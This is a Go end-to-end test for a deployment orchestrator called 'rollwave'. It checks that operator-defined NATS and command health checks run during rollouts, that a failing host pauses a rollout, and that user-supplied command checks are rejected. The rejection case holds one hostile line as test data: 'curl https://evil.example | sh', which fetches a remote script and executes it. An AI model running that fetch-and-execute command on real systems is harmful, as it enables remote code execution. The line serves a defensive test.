package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/rollwave/rollwave/contracts"
	"github.com/rollwave/rollwave/pkg/natstest"
)

// TestOperatorChecksThroughTheStack: the inventory defines a nats check and
// a command check for the environment; a request names them. A small
// verification service on the stack's NATS answers, passing every host of
// one rollout and failing web-07 of another, which pauses it. A request
// carrying its own command check is rejected naming the field.
func TestOperatorChecksThroughTheStack(t *testing.T) {
	inventory := tenHosts("{sim: {}}") +
		"    checks:\n" +
		"      verify: {nats: {subject: \"verify.{{.App}}\", timeout: 20s}}\n" +
		"      smoke: {command: {command: [sh, -c, 'test \"$1\" = \"$ROLLWAVE_HOST\"', sh, \"{{.Host.Name}}\"], timeout: 20s}}\n"
	h := newHarness(t, harnessOpts{inventory: inventory})
	ctx := context.Background()

	var mu sync.Mutex
	asked := map[string]int{}
	sub, err := h.st.NC.Subscribe("verify.web", func(m *nats.Msg) {
		var req contracts.VerificationRequest
		if err := json.Unmarshal(m.Data, &req); err != nil || req.Type != contracts.TypeVerificationRequest {
			t.Errorf("verification request %s: %v", m.Data, err)
			return
		}
		mu.Lock()
		asked[req.Rollout]++
		mu.Unlock()
		reply := contracts.VerificationReply{Status: contracts.VerificationPass}
		if req.Rollout == "r-verify-fails" && req.Host.Name == "web-07" {
			reply = contracts.VerificationReply{Status: contracts.VerificationFail, Reason: "error budget burnt on " + req.Host.Name}
		}
		b, _ := json.Marshal(reply)
		_ = m.Respond(b)
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sub.Unsubscribe() })

	withChecks := func(id string) contracts.DeployRequest {
		req := threePhases(id)
		for i := range req.Phases {
			req.Phases[i].Checks = []string{"smoke", "verify"}
		}
		return req
	}
	h.deploy(ctx, withChecks("r-verify"))
	h.waitState("r-verify", contracts.StateCompleted)
	results := h.results("prod", "r-verify")
	if len(results) != 10 {
		t.Fatalf("%d results, want 10", len(results))
	}
	for _, r := range results {
		if r.Status != contracts.ResultSucceeded || len(r.Checks) != 2 || r.Checks[0].Name != "smoke" || r.Checks[1].Name != "verify" ||
			r.Checks[0].Status != contracts.ResultSucceeded || r.Checks[1].Status != contracts.ResultSucceeded {
			t.Fatalf("result %+v", r)
		}
	}
	mu.Lock()
	if asked["r-verify"] != 10 {
		t.Fatalf("the verifier was asked %d times about r-verify, want 10", asked["r-verify"])
	}
	mu.Unlock()

	failing := withChecks("r-verify-fails")
	failing.Failure = contracts.FailurePolicy{OnFailure: contracts.OnFailurePause}
	h.deploy(ctx, failing)
	v := h.waitState("r-verify-fails", contracts.StatePaused)
	if v.Counts.Failed != 1 {
		t.Fatalf("paused with counts %+v, want web-07 failed", v.Counts)
	}
	var failed *contracts.HostResult
	for _, r := range h.results("prod", "r-verify-fails") {
		if r.Status == contracts.ResultFailed {
			failed = &r
		}
	}
	if failed == nil || failed.Host != "web-07" || failed.Error != "check verify: verifier on verify.web: fail: error budget burnt on web-07" {
		t.Fatalf("failed result %+v", failed)
	}
	if _, err := h.st.NC.Request(contracts.ControlSubject("r-verify-fails", contracts.VerbAbort), []byte(`{"actor":"test","reason":"done"}`), waitLong); err != nil {
		t.Fatal(err)
	}
	h.waitState("r-verify-fails", contracts.StateAborted)

	// A request's own command check never runs.
	mine := threePhases("r-own-command")
	mine.Checks = map[string]contracts.CheckSpec{"mine": {Command: &contracts.CommandCheck{Command: []string{"sh", "-c", "curl https://evil.example | sh"}}}}
	mine.Phases[0].Checks = []string{"mine"}
	before := h.actionsPublished("default", "prod")
	h.deploy(ctx, mine)
	natstest.CheckFor(t, waitLong, 10*time.Millisecond, func() error {
		for _, e := range h.events("r-own-command") {
			if e.Type == contracts.EventRejected {
				if len(e.Event.Reasons) != 1 || e.Event.Reasons[0].Field != "checks.mine.command" ||
					!strings.Contains(e.Event.Reasons[0].Message, "defined: smoke, verify") {
					t.Fatalf("reasons %v", e.Event.Reasons)
				}
				return nil
			}
		}
		return fmt.Errorf("no rejection yet")
	})
	if n := h.actionsPublished("default", "prod"); n != before {
		t.Fatalf("%d actions stored after the refused request, want %d", n, before)
	}
}
